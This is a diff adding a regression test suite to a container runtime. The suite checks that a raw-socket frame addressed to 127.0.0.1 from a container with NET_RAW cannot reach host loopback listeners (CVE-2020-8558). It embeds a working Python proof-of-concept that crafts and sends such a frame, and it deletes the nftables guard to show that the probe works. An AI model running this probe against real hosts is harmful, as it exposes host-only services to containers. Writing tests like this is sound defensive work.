@@ -626,3 +626,92 @@ describe("an image's default network", () => {
     );
   });
 });
+
+describe("attack: a container with NET_RAW and the host's loopback", () => {
+  // route_localnet on the host ends of container links lets 127.0.0.0/8 in through them: a
+  // frame sent to the gateway's MAC, addressed to 127.0.0.1, reached a host listener there
+  // (CVE-2020-8558). Sent here by hand, as an attacker would, with a raw socket.
+  const PROBE = String.raw`
+import socket, struct, sys, time
+port = int(sys.argv[1])
+gw = next(socket.inet_ntoa(struct.pack("<L", int(f[2], 16)))
+          for f in (l.split() for l in open("/proc/net/route").read().splitlines()[1:])
+          if f[1] == "00000000")
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.connect((gw, 9))
+me = u.getsockname()[0]
+u.send(b"arp")  # the gateway's MAC comes into the ARP table
+time.sleep(0.5)
+mac = next(bytes.fromhex(f[3].replace(":", ""))
+           for f in (l.split() for l in open("/proc/net/arp").read().splitlines()[1:])
+           if f[0] == gw)
+own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
+data = b"from-the-container"
+udp = struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data
+ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
+                 socket.inet_aton(me), socket.inet_aton("127.0.0.1"))
+s = sum(struct.unpack("!10H", ip))
+s = (s & 0xFFFF) + (s >> 16)
+ip = ip[:10] + struct.pack("!H", ~((s & 0xFFFF) + (s >> 16)) & 0xFFFF) + ip[12:]
+raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+raw.bind(("eth0", 0))
+for _ in range(3):
+    raw.send(mac + own + b"\x08\x00" + ip + udp)
+    time.sleep(0.2)
+print("sent from", me, "via", gw)
+`;
+  /** A UDP listener on the host's 127.0.0.1:port; what it received within 4 s, or "". */
+  function listen(port: number): () => Promise<string> {
+    const out = `/tmp/loopback-${port}`;
+    const py = `import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.bind(("127.0.0.1",${port}))\ns.settimeout(4)\ntry:\n  d,a=s.recvfrom(100)\n  open("${out}","w").write(d.decode())\nexcept Exception:\n  open("${out}","w").write("")\n`;
+    sd.exec("/bin/sh", ["-c", `rm -f ${out}; python3 -c '${py}' </dev/null >/dev/null 2>&1 &`]);
+    return async () => {
+      await waitFor(
+        "the listener's verdict",
+        () => sd.exec("test", ["-e", out]).code === 0,
+        10_000,
+      );
+      return sd.exec("cat", [out]).stdout;
+    };
+  }
+  let flags: string[] = [];
+  const probe = async (port: number) => {
+    const heard = listen(port);
+    await new Promise((r) => setTimeout(r, 300));
+    const r = await sd.railyard([...flags, "run", "raw", "--", String(port)]);
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stdout, /^sent from 10\.\d+\.\d+\.\d+ via 10\./);
+    return heard();
+  };
+
+  test("a frame to 127.0.0.1 from a container is dropped at the host", async () => {
+    flags = project().write({
+      containers: {
+        raw: {
+          args: ["/usr/bin/python3", "-c", PROBE],
+          closure: "packages",
+          network: "private",
+          capabilities: { NET_RAW: true },
+        },
+      },
+    });
+    assert.equal(await probe(47001), "", "the host's loopback heard nothing");
+  });
+
+  test("the probe is real: with the guard removed, the same frame gets through", async () => {
+    // As a host that an older railyard set up: no input chain. The next start puts it back.
+    sd.exec("nft", ["delete", "chain", "ip", "railyard", "input"]);
+    const r = await sd.railyard([...flags, "run", "raw", "--", "47002"]);
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(sd.exec("nft", ["list", "chain", "ip", "railyard", "input"]).code, 0);
+    assert.equal(await probe(47003), "", "a start loads the guard into an older table");
+    sd.exec("nft", ["flush", "chain", "ip", "railyard", "input"]);
+    const heard = listen(47004);
+    await new Promise((res) => setTimeout(res, 300));
+    // The table is there with its marker chain: this start leaves it as it is, guard flushed.
+    const again = await sd.railyard([...flags, "run", "raw", "--", "47004"]);
+    assert.equal(again.code, 0, again.stderr);
+    assert.equal(await heard(), "from-the-container");
+    sd.exec("nft", ["delete", "chain", "ip", "railyard", "input"]);
+  });
+});
